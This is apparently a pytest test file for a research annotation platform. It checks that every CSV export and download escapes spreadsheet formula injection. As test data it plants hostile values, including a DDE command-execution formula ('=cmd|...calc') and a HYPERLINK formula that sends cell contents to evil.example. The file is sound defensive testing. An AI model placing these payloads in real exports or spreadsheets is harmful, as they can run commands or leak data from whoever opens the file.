"""Every CSV the platform writes is safe to open in a spreadsheet: a rationale, id, source,
condition, judge name or audit value that starts a formula comes out as text (a leading
apostrophe), and numbers such as -0.5 stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from knox.models import AuthToken
from rest_framework.test import APIClient

from annotation.csvsafe import DANGEROUS_FIRST, NUMBER
from annotation.models import (
    Conversation,
    LabelAnnotation,
    LabelChange,
    Rater,
    Rating,
    RatingChange,
)

EVIL_ID = "=cmd|' /C calc'!A0"
EVIL_SOURCE = "@evil"
EVIL_CONDITION = "+cond"
EVIL_RATIONALE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_JUDGE = "-judge-y"


def assert_safe(text: str, *payloads: str) -> list[list[str]]:
    """No cell may start a formula, and each payload is there, as text (apostrophe first)."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    cells = {cell for row in rows for cell in row}
    for cell in cells:
        if cell and cell[0] in DANGEROUS_FIRST:
            assert NUMBER.fullmatch(cell), f"formula cell {cell!r} in the CSV"
    for payload in payloads:
        assert any(payload in cell for cell in cells), f"{payload!r} was dropped"
        assert all(not c.startswith(payload) for c in cells)
        assert any(c.startswith("'" + payload) for c in cells), payload
    return rows


@pytest.fixture
def poisoned(small_study):
    """The small study with formulas in every free-text place an export copies."""
    study = small_study.study
    Conversation.objects.filter(study=study, external_id="c0").update(
        external_id=EVIL_ID, source=EVIL_SOURCE, conditions=[EVIL_CONDITION]
    )
    Rating.objects.filter(response__conversation__external_id=EVIL_ID).update(
        rationale=EVIL_RATIONALE
    )
    Rater.objects.filter(name="judge-y").update(name=EVIL_JUDGE)
    return small_study


def _stream(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_export_command_long_and_wide(poisoned, tmp_path):
    out = tmp_path / "long.csv"
    call_command(
        "export_ratings", "--study", "Small study", "--out", str(out), stdout=io.StringIO()
    )
    rows = assert_safe(out.read_text(), EVIL_ID, EVIL_RATIONALE, EVIL_JUDGE)
    # Scores are numbers and stay exactly as they were.
    header = rows[0]
    assert all(r[header.index("score")] in {"1", "2", "3", "4", "5"} for r in rows[1:])
    out = tmp_path / "wide.csv"
    call_command(
        "export_ratings", "--study", "Small study", "--out", str(out), "--wide",
        stdout=io.StringIO(),
    )  # fmt: skip
    assert_safe(out.read_text(), EVIL_ID, EVIL_SOURCE, EVIL_CONDITION, EVIL_JUDGE)


def test_dashboard_downloads_long_and_wide(client, researcher, poisoned):
    client.force_login(researcher)
    url = reverse("analysis:ratings_csv", args=[poisoned.study.pk])
    assert_safe(_stream(client.get(url)), EVIL_ID, EVIL_RATIONALE, EVIL_JUDGE)
    wide = _stream(client.get(url, {"layout": "wide"}))
    assert_safe(wide, EVIL_ID, EVIL_SOURCE, EVIL_CONDITION)


def test_api_export_long_and_wide(researcher, poisoned):
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {AuthToken.objects.create(user=researcher)[1]}")
    url = f"/api/studies/{poisoned.study.pk}/export/"
    assert_safe(_stream(api.get(url)), EVIL_ID, EVIL_RATIONALE, EVIL_JUDGE)
    assert_safe(_stream(api.get(url, {"layout": "wide"})), EVIL_ID, EVIL_SOURCE)


def test_report_table_downloads_keep_negative_numbers(client, researcher, poisoned):
    client.force_login(researcher)
    url = reverse("analysis:table_csv", args=[poisoned.study.pk, "reliability"])
    response = client.get(url, {"bootstrap": 200})
    rows = assert_safe(response.content.decode(), EVIL_JUDGE)
    header = rows[0]
    biases = [r[header.index("bias")] for r in rows[1:]]
    # judge-y scores 0.2 lower than the clinicians: negative biases are written as numbers.
    assert any(b.startswith("-") for b in biases)
    assert all(NUMBER.fullmatch(b) for b in biases if b)
    ranking = client.get(reverse("analysis:table_csv", args=[poisoned.study.pk, "ranking"]))
    assert_safe(ranking.content.decode(), EVIL_JUDGE)


def test_reliability_report_command_csv(poisoned):
    out = io.StringIO()
    call_command(
        "reliability_report", "--study", "Small study", "--format", "csv", "--bootstrap", "20",
        stdout=out,
    )  # fmt: skip
    assert_safe(out.getvalue(), EVIL_JUDGE)


def test_audit_csvs(client, staff_user, poisoned):
    rating = Rating.objects.filter(response__conversation__external_id=EVIL_ID).first()
    RatingChange.objects.create(rating=rating, field="rationale", old_value="", new_value="@x")
    clinician = poisoned.clinicians[0]
    conversation = Conversation.objects.get(external_id=EVIL_ID)
    annotation = LabelAnnotation.objects.create(
        rater=clinician, conversation=conversation, status="draft", source="form", labels=[]
    )
    LabelChange.objects.create(annotation=annotation, field="labels", old_value="", new_value="-x")
    client.force_login(staff_user)
    url = reverse("annotation:manage_audit")
    assert_safe(client.get(url, {"format": "csv"}).content.decode(), EVIL_ID, "@x")
    assert_safe(client.get(url, {"format": "labels-csv"}).content.decode(), EVIL_ID, "-x")


def test_distortion_downloads(client, researcher, cd_study):
    study, run = cd_study
    Conversation.objects.filter(study=study, external_id="m0").update(external_id="=m0")
    LabelAnnotation.objects.filter(conversation__study=study, others=["Self-Blame"]).update(
        others=["=evil()"]
    )
    client.force_login(researcher)
    labels = client.get(reverse("analysis:distortion_labels_csv", args=[study.pk, run.pk]))
    assert_safe(labels.content.decode(), "=m0")
    for name, payload in (("others", "=evil()"), ("consensus", "=m0")):
        url = reverse("analysis:distortion_table_csv", args=[study.pk, name])
        assert_safe(client.get(url).content.decode(), payload)


def test_import_problem_report(db, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["ConvID", "context", "human_response_gpt4o"])
    book.active.append(["@cmd|x", "ctx", '{"Guidance": 9}'])
    book.save(tmp_path / "h.xlsx")
    report = tmp_path / "problems.csv"
    call_command(
        "import_mentalalign", "--study", "X", "--human", str(tmp_path / "h.xlsx"),
        "--report", str(report), stdout=io.StringIO(),
    )  # fmt: skip
    assert_safe(report.read_text(), "@cmd|x")
